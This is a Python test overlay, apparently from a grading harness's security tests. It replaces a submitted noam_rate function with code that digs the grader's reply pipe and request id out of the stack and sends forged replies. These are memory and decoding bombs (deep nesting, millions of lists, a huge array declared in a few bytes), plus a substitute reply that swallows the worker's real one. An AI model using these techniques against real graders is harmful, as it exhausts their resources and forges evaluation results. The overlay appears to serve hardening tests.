# ruff: noqa: F821  (an overlay: noam_rate comes from the source it is appended to)
# Attack (issue 34): make the grader's own decoding of one reply cost what the worker likes, under
# the pending request's real id (read from the worker's memory), so that only the caps on what
# the request asked for stand in the way. __BOMB__ (filled in by the test) says which, fired in
# noam_rate:
# - "lists": the old caps' largest frame: 16 MiB of JSON holding ~5.6 million empty lists and a
#   256 MiB payload (the grader's memory peaked at 2.9 GB on it);
# - "elements": under the call's JSON cap, ~340 000 empty lists (over its count of values);
# - "deep": lists nested 20 000 deep (a few bytes of JSON);
# - "layout": one float64 array declared of 2**40 elements in 8 bytes of payload;
# - "payload": a well-formed reply of one 64 MiB array, the largest a call may carry, that stands
#   in for the worker's own reply (swallowed): the grader judges it, at the cost of one copy.
# Fault: noam_rate answers garbage or breaks its worker; the rest is a correct submission.
import json as _json
import os as _os
import struct as _struct
import sys as _sys
import threading as _threading

_BOMB = "__BOMB__"
_HEAD = _struct.Struct(">4sQIQ")


def _serving() -> dict:
    """The worker's serve loop's locals (its reply descriptor, the pending request's id): the
    grader's modules are out of sys.modules, but its frames are on the stack below ours."""
    frame = _sys._getframe()
    while "request_id" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals


def _send(doc: bytes, payload_size: int, chunk: bytes = b"") -> None:
    fd = _serving()["write_fd"]
    _os.write(fd, _HEAD.pack(b"XFM2", _serving()["request_id"], len(doc), payload_size))
    view = memoryview(doc)
    while view:
        view = view[_os.write(fd, view) :]
    left = payload_size
    block = chunk or bytes(1 << 20)
    while left:
        left -= _os.write(fd, block[: min(left, len(block))])


def _swallow_next_reply() -> None:
    """The worker's own reply to this request goes into a pipe of ours, read and dropped; then
    the reply pipe is the worker's again."""
    fd = _serving()["write_fd"]
    saved = _os.dup(fd)
    r, w = _os.pipe()
    _os.dup2(w, fd)
    _os.close(w)

    def drop() -> None:
        head = _os.read(r, _HEAD.size)
        _, _, n_json, n_payload = _HEAD.unpack(head)
        left = n_json + n_payload
        while left:
            left -= len(_os.read(r, min(left, 1 << 16)))
        _os.dup2(saved, fd)

    _threading.Thread(target=drop, daemon=True).start()


_honest_noam_rate = noam_rate
_fired = []


def noam_rate(step, d_model, warmup, factor=1.0):
    if _fired:  # once: the probe asks for several rates
        return _honest_noam_rate(step, d_model, warmup, factor)
    _fired.append(True)
    reply, end = b'{"body": {"ok": true, "value": [', b'[]]}, "arrays": []}'
    if _BOMB == "lists":
        lists = b"[]," * (((16 << 20) - len(reply) - len(end)) // 3)
        _send(reply + lists + end, 256 << 20)
    elif _BOMB == "elements":
        _send(reply + b"[]," * 340_000 + end, 0)
    elif _BOMB == "deep":
        _send(reply + b"[" * 20_000 + b"]" * 20_000 + end, 0)
    elif _BOMB == "layout":
        meta = [{"dtype": "float64", "shape": [1 << 40], "nbytes": 8}]
        body = {"ok": True, "value": {"__ndarray__": 0}}
        _send(_json.dumps({"body": body, "arrays": meta}).encode(), 8)
    elif _BOMB == "payload":
        n = (64 << 20) // 8
        meta = [{"dtype": "float64", "shape": [n], "nbytes": 8 * n}]
        body = {"ok": True, "value": {"__ndarray__": 0}}
        _send(_json.dumps({"body": body, "arrays": meta}).encode(), 8 * n)
        _swallow_next_reply()
    return _honest_noam_rate(step, d_model, warmup, factor)
